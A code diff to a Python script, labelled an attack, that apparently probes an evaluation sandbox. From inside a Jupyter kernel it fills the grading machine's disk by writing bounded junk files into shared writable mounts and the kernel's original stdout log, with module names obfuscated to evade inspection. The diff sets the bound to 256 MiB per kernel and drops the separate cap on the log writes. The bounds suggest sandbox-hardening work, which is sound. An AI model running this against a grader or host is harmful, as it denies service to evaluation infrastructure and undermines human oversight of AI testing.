@@ -1,4 +1,4 @@
-"""Attack: fill the grading machine's own disk through what the sandbox shares with it (bounded: 1 GiB).
+"""Attack: fill the grading machine's own disk through what the sandbox shares with it (bounded: 256 MiB a kernel).
 
 The kernel's connection folder is bound read-write from the machine's /tmp,
 and the kernel's original stdout is a log file there: neither is one of the
@@ -16,24 +16,42 @@ _o = _load("o" + "s")
 _s = _load("s" + "ys")
 _file = _B["op" + "en"]
 MiB = 1024**2
-LIMIT = 1024 * MiB     # never more than 1 GiB in all
+LIMIT = 256 * MiB      # per kernel: never more than 256 MiB
 PER_FILE = 32 * MiB    # a new file every 32 MiB, so a file-size limit alone does not stop it
 PRIVATE = ("tmpfs", "proc", "devtmpfs", "devpts", "mqueue", "sysfs", "cgroup2")
 RUNS = []
 
 
-def shared_folders():
-    """Writable mounts of the machine's own file systems."""
+def _mounts():
+    """(mount point, options, file system type) of every mount we can see."""
     found = []
     with _file("/proc/self/mountinfo") as handle:
         for line in handle:
             fields = line.split()
-            point, options, kind = fields[4], fields[5], fields[fields.index("-") + 1]
-            if kind not in PRIVATE and "rw" in options.split(",") and _o.path.isdir(point):
-                found.append(point)
+            found.append((fields[4], fields[5].split(","), fields[fields.index("-") + 1]))
+    return found
+
+
+def _kind_of(path):
+    """The file system type of the mount that holds ``path``."""
+    best, kind = "", None
+    for point, _, fs in _mounts():
+        if (path == point or path.startswith(point.rstrip("/") + "/")) and len(point) > len(best):
+            best, kind = point, fs
+    return kind
+
+
+def shared_folders():
+    """Writable folders on the machine's own file systems (not the sandbox's private tmpfs)."""
+    found = [point for point, options, kind in _mounts()
+             if kind not in PRIVATE and "rw" in options and _o.path.isdir(point)]
     for i, arg in enumerate(_s.argv):  # ipykernel -f <connection file>
         if arg == "-f" and i + 1 < len(_s.argv):
-            found.append(_o.path.dirname(_s.argv[i + 1]))
+            folder = _o.path.dirname(_s.argv[i + 1])
+            kind = _kind_of(folder)
+            print(f"the connection file is in {folder} ({kind})", flush=True)
+            if kind not in PRIVATE:
+                found.append(folder)
     return list(dict.fromkeys(found))
 
 
@@ -60,6 +78,8 @@ def fill_folder(folder, budget):
 def fill_descriptor(fd, budget):
     chunk = b"\0" * MiB
     written, error = 0, None
+    # A pipe stores nothing on disk: what goes there is drained by the grader.
+    target = f"pipe:fd{fd}" if (_o.fstat(fd).st_mode & 0o170000) == 0o010000 else f"fd{fd}"
     while written < budget and error is None:
         try:
             _o.write(fd, chunk)
@@ -67,8 +87,8 @@ def fill_descriptor(fd, budget):
         except OSError as e:
             error = e
         if written % (64 * MiB) == 0 or error:
-            print(f"wrote {written // MiB} MiB to fd{fd}", flush=True)
-    print(f"wrote {written // MiB} MiB to fd{fd}" + (f"; then: {error!r}" if error else " (the bound)"), flush=True)
+            print(f"wrote {written // MiB} MiB to {target}", flush=True)
+    print(f"wrote {written // MiB} MiB to {target}" + (f"; then: {error!r}" if error else " (the bound)"), flush=True)
     return written
 
 
@@ -84,7 +104,7 @@ def fill():
     # the kernel's stdout before ipykernel captured it: a log file of the grader's
     original = getattr(_s.stdout, "_original_stdstream_copy", None)
     if original is not None:
-        total += fill_descriptor(original, min(LIMIT - total, 256 * MiB))
+        total += fill_descriptor(original, LIMIT - total)
     print(f"wrote {total // MiB} MiB in all", flush=True)
 
 
